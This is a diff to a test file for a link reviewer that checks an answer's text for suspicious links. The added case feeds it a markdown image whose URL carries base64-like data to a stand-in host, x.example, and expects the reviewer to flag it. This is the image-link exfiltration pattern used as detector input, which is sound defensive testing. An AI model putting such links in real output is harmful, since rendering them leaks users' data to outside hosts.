@@ -93,6 +93,9 @@ def test_links_in_the_words_of_an_answer() -> None:
     text = "See https://look.example/c?m=anna@berg.example for more."
     assert [found.rule for found in judge().review(body).text(text, "p")] == ["ACT-LINK"]
     assert judge(links=False).review(body).text(text, "p") == []
+    image = f"![x](https://x.example/p?data={'QUJD' * 9})"
+    assert [found.rule for found in judge().review(body).text(image, "p")] == ["ACT-105"]
+    assert judge(links=False).review(body).text(image, "p") == []
     assert judge().review(body).text("See https://other.example/a?b=12345678901 too.", "p") == []
 
 
